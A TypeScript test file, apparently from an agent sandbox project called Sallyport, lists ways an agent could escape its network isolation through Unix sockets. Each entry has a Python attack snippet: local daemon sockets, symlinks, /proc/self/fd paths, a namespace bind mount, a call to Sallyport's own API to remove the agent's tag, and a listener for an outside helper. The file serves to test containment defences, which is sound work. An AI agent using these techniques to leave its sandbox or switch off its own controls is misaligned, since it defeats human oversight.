/** Ways round by Unix sockets: local daemons that would do it for the agent. */
import { SOCKETS } from "../network.ts";
import type { Vector } from "../vector.ts";

const NO_DOOR = ["no-door"];

export const UNIX: readonly Vector[] = [
  ...SOCKETS.map(
    (name): Vector => ({
      name: `unix-${nameOf(name)}`,
      what: `connects to ${name}`,
      attack: `
step("socket")
sock = socket.socket(socket.AF_UNIX)
step("connect")
sock.connect(T["socketPaths"]["${name}"])
pour(sock)`,
      closedBy: NO_DOOR,
    }),
  ),
  {
    name: "unix-abstract",
    what: "connects to an abstract name",
    attack: `
step("socket")
sock = socket.socket(socket.AF_UNIX)
step("connect")
sock.connect("\\0sallyport-bypass")
pour(sock)`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-datagram",
    what: "sends a datagram to a path, without connect",
    attack: `
step("socket")
sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
step("sendto")
sock.sendto(TOKEN, T["sockets"] + "/datagram.sock")`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-packets",
    what: "connects a SOCK_SEQPACKET socket",
    attack: `
step("socket")
sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
step("connect")
sock.connect(T["sockets"] + "/packets.sock")
pour(sock)`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-symlink",
    what: "connects through a symbolic link of its own",
    attack: `
link = T["shared"] + "/" + T["token"] + ".sock"
os.symlink(T["sockets"] + "/stream.sock", link)
try:
    step("socket")
    sock = socket.socket(socket.AF_UNIX)
    step("connect")
    sock.connect(link)
    pour(sock)
finally:
    os.unlink(link)`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-descriptor-path",
    what: "connects by /proc/self/fd to a path that is only open there",
    attack: `
step("open")
handle = os.open(T["sockets"] + "/stream.sock", os.O_PATH)
step("socket")
sock = socket.socket(socket.AF_UNIX)
step("connect")
sock.connect(f"/proc/self/fd/{handle}")
pour(sock)`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-relative",
    what: "connects by a relative path from the socket's own folder",
    attack: `
os.chdir(T["sockets"])
step("socket")
sock = socket.socket(socket.AF_UNIX)
step("connect")
sock.connect("stream.sock")
pour(sock)`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-bind-mount",
    what: "bind-mounts the socket elsewhere in a user and mount namespace of its own",
    attack: `
step("unshare")
if LIBC.unshare(0x10000000 | 0x20000) < 0:
    raise OSError(ctypes.get_errno(), "unshare")
folder = "/tmp/" + T["token"]
os.mkdir(folder)
step("mount")
if LIBC.mount(T["sockets"].encode(), folder.encode(), None, 4096, None) < 0:
    raise OSError(ctypes.get_errno(), "mount")
step("socket")
sock = socket.socket(socket.AF_UNIX)
step("connect")
sock.connect(folder + "/stream.sock")
pour(sock)`,
    closedBy: ["no-door", "seccomp", "capability"],
    capability: "SYS_ADMIN",
  },
  {
    name: "unix-own-api",
    what: "asks Sallyport's own API to end its tag, then connects",
    attack: `
step("socket")
sock = socket.socket(socket.AF_UNIX)
step("api")
sock.connect(T["api"])
sock.sendall(b"POST /v1/tags/remove HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}")
dial(T["sink4"], T["port"]["sink"])`,
    closedBy: NO_DOOR,
  },
  {
    name: "unix-listens-for-outsider",
    what: "listens on a Unix socket; an outsider connects in and takes the data away",
    attack: `
path = T["shared"] + "/" + T["token"]
step("socket")
own = socket.socket(socket.AF_UNIX)
step("bind")
own.bind(path)
os.chmod(path, 0o777)
own.listen()
own.settimeout(2)
ask("local", do="dial-unix", path=path)
step("accept")
peer, _ = own.accept()
pour(peer)`,
    closedBy: [],
    stated: [
      {
        limit: "a helper outside of the agent",
        remedy: "no untrusted local processes; folders of their own for agents",
      },
    ],
  },
];

function nameOf(path: string): string {
  return (path.split("/").at(-2) ?? path).replace(/\.sock$/, "").replaceAll(".", "");
}
